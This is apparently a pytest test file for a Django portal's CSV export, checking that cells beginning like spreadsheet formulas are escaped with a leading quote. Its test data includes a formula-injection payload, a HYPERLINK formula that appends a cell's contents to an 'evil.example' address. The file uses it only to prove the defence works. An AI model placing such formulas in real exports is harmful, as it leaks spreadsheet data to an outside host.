"""Exports: a name that somebody sent is text to the spreadsheet that opens it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from portal.models import Job
from portal.tenancy import scope
from portal.web.sheets import csv_text, harmless
from tests.cast import Cast
from tests.pages.firm import browser

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1"])
def test_a_text_that_begins_like_a_formula_gets_a_quote(text: str) -> None:
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("cell", ["Bakkerij", "", "a=b", Decimal("-12.50"), -3, None])
def test_everything_else_stays_as_it_is(cell: object) -> None:
    assert harmless(cell) is cell


def test_what_is_written_reads_back_with_semicolons_and_quotes() -> None:
    (heads, row) = csv.reader(io.StringIO(csv_text(["naam"], [['a;"b"\nc']]).lstrip("\ufeff")), delimiter=";")
    assert (heads, row) == (["naam"], ['a;"b"\nc'])


def test_a_name_that_is_a_formula_comes_back_as_text(cast: Cast) -> None:
    """A partner imports it, the row fails, and the firm's owner opens the list of what failed."""
    with scope(cast.alice.firm_id):
        job = Job.objects.create(
            kind="organisations", asked=[{"name": FORMULA, "kvk_number": "x"}], total=1, state="done",
            rows=[{"row": 1, "status": "failed", "detail": "acht cijfers"}],
        )  # fmt: skip
    answer = browser(cast.alice.owner).get(reverse("job-failed", args=[job.pk]))
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["kvk_number", "name", "reason"], ["x", "'" + FORMULA, "acht cijfers"]]


def test_nothing_else_writes_csv() -> None:
    own = {
        "portal/web/sheets.py",
        "invoices/desk/quality.py",
    }  # the helpdesk's figures: codes and numbers of ours
    for room in ("portal", "connections", "invoices"):
        for path in (ROOT / room).rglob("*.py"):
            where = str(path.relative_to(ROOT))
            if where not in own and not where.startswith("connections/sandbox/"):
                assert not re.search(r"csv\.(writer|DictWriter)", path.read_text()), where
